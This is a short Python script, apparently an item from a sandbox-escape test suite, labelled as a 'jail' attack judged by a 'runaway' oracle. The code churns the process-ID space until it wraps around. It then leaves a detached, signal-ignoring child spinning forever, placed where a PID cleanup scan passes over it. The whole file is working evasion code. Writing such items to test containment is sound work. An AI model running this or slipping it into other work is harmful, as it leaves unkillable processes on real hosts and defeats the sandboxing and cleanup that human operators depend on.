# attack: jail/numbers-that-come-round
# oracle: runaway
# imports: os, time, signal, _thread
# tools:
# source: own
# note: where numbers of processes are few, makes so many that they start over, and leaves one that a look from the last number to the newest passes over
import _thread
import os
import signal
import time


def numbers():
    while True:
        for _ in range(200):
            try:
                _thread.start_new_thread(int, ())
            except RuntimeError:
                time.sleep(0.0005)
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        yield pid


made = numbers()
first = next(made)
last = next(pid for pid in made if (pid - first) % 32768 > 4000)
left = os.fork()
if left == 0:
    os.setsid()
    for number in (1, 2, 3, 15):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass
came_round = False
for pid in made:
    came_round, last = came_round or pid < last, pid
    if came_round and first + 300 < pid < left:
        break
